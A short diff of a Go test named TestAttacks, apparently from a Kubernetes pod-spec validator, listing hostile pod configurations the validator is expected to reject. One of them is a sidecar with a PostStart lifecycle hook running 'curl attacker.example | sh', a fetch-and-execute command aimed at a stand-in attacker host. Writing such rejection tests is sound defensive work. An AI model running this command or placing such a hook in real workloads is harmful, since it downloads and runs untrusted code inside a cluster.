@@ -461,7 +461,8 @@ func TestAttacks(t *testing.T) {
 			c.Ports = []corev1.ContainerPort{{ContainerPort: 2375, HostPort: 2375}}
 		}), "without ports"},
 		"a sidecar with a lifecycle hook": {sidecar(func(c *corev1.Container) {
-			c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "curl attacker.example | sh"}}}}
+			c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{
+				Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "curl attacker.example | sh"}}}}
 		}), "without ports, lifecycle hooks"},
 		"more than 8 init containers": {pod(func(p *corev1.PodTemplateSpec) {
 			for i := range 8 {
